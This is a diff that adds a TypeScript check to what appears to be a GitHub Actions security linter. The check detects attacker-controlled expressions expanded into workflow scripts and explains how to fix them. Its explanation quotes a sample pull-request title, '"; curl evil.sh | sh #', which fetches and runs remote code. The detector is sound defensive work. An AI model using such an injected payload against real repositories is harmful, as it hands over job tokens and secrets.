@@ -1,0 +1,116 @@
+import type { Check, CheckContext } from '../src/check.js';
+import { eventNames, PRIVILEGED_UNTRUSTED_EVENTS, usesAction } from '../src/facts.js';
+import { valuePaths } from '../src/model/expressions.js';
+import { expressionsIn, type Job, type Step, type Workflow } from '../src/model/workflow.js';
+import { asString, isMap, type YamlFile } from '../src/model/yaml.js';
+import { isAttackerControlled } from '../src/taint.js';
+import type { Severity } from '../src/types.js';
+
+export const templateInjection: Check = {
+  meta: {
+    id: 'template-injection',
+    title: 'Attacker-controlled text expanded into a script',
+    area: 'injection',
+    severity: 'high',
+    description:
+      'A `${{ }}` expression whose value an outsider controls (titles, bodies, branch names, commit messages…) inside `run:` or actions/github-script `script:`.',
+    why:
+      'GitHub substitutes `${{ }}` into the script text before the shell or JavaScript runs it. A pull request titled ' +
+      '`"; curl evil.sh | sh #` becomes code that runs with the job\'s token and secrets. In workflows triggered by ' +
+      'pull_request_target, issue_comment or issues this hands the repository to anyone with a GitHub account.',
+    howToFix:
+      'Pass the value through an environment variable and quote it in the script: `env: TITLE: ${{ github.event.pull_request.title }}` then `echo "$TITLE"`.',
+    example:
+      '- run: echo "${{ github.event.issue.title }}"\n+ env:\n+   ISSUE_TITLE: ${{ github.event.issue.title }}\n+ run: echo "$ISSUE_TITLE"',
+    fixable: true,
+  },
+  run(ctx) {
+    for (const wf of ctx.repo.workflows) {
+      const events = eventNames(wf);
+      const untrusted = events.filter((e) => PRIVILEGED_UNTRUSTED_EVENTS.has(e));
+      const textInputs = textInputNames(wf);
+      for (const job of wf.jobs) {
+        const privileged = untrusted.length > 0 || hasWriteToken(wf, job) || referencesSecrets(wf.yaml, job);
+        for (const step of job.steps) {
+          scanStep(ctx, wf.yaml, step, (path) => {
+            if (isAttackerControlled(path)) {
+              const severity: Severity = untrusted.length > 0 ? 'critical' : 'high';
+              return { severity, why: untrusted.length > 0 ? ` in a workflow run by ${untrusted.join(', ')}` : '' };
+            }
+            const input = inputName(path);
+            if (input && privileged && textInputs.has(input)) return { severity: 'medium', why: ' (a free-text input of a privileged workflow)' };
+            return undefined;
+          });
+        }
+      }
+    }
+    for (const action of ctx.repo.actions) {
+      const inputs = new Set(action.inputs.map((i) => i.toLowerCase()));
+      for (const step of action.steps) {
+        scanStep(ctx, action.yaml, step, (path) => {
+          if (isAttackerControlled(path)) return { severity: 'high', why: '' };
+          const input = inputName(path);
+          if (input && inputs.has(input)) return { severity: 'low', why: ' (an action input: safe only while every caller passes trusted text)' };
+          return undefined;
+        });
+      }
+    }
+  },
+};
+
+type Verdict = { severity: Severity; why: string } | undefined;
+
+function scanStep(ctx: CheckContext, yaml: YamlFile, step: Step, judge: (path: string) => Verdict): void {
+  const script = step.run ?? (usesAction(step, 'actions/github-script') ? step.with.get('script') : undefined);
+  if (!script) return;
+  const where = step.run ? 'run:' : 'github-script `script:`';
+  for (const expr of expressionsIn(yaml, script.node)) {
+    if (!expr.expr) continue;
+    for (const path of valuePaths(expr.expr)) {
+      const verdict = judge(path);
+      if (!verdict) continue;
+      ctx.report({
+        file: yaml.path,
+        range: expr.range,
+        severity: verdict.severity,
+        confidence: verdict.severity === 'low' ? 'medium' : 'high',
+        message: `\`${path}\` is expanded into ${where}${verdict.why}; pass it through env: instead`,
+      });
+      break;
+    }
+  }
+}
+
+function inputName(path: string): string | undefined {
+  const m = /^(?:inputs|github\.event\.inputs)\.([^.]+)$/.exec(path);
+  return m?.[1];
+}
+
+/** workflow_dispatch / workflow_call inputs that can hold arbitrary text (not boolean, number or choice). */
+function textInputNames(wf: Workflow): Set<string> {
+  const out = new Set<string>();
+  for (const t of wf.triggers) {
+    if ((t.event !== 'workflow_dispatch' && t.event !== 'workflow_call') || !isMap(t.config)) continue;
+    const inputs = wf.yaml.get(t.config, 'inputs');
+    if (!isMap(inputs)) continue;
+    for (const { key, value } of wf.yaml.entries(inputs)) {
+      const type = isMap(value) ? asString(wf.yaml.get(value, 'type')) : undefined;
+      if (type === 'boolean' || type === 'number' || type === 'choice' || type === 'environment') continue;
+      out.add(key.toLowerCase());
+    }
+  }
+  return out;
+}
+
+function hasWriteToken(wf: Workflow, job: Job): boolean {
+  const perms = job.permissions ?? wf.permissions;
+  if (!perms) return false;
+  return perms.kind === 'write-all' || perms.scopes.some((s) => s.level === 'write');
+}
+
+function referencesSecrets(yaml: YamlFile, job: Job): boolean {
+  for (const s of yaml.strings(job.node)) {
+    if (s.value.includes('secrets.') && expressionsIn(yaml, s).some((e) => e.paths.some((p) => p.startsWith('secrets.') && p !== 'secrets.github_token'))) return true;
+  }
+  return false;
+}
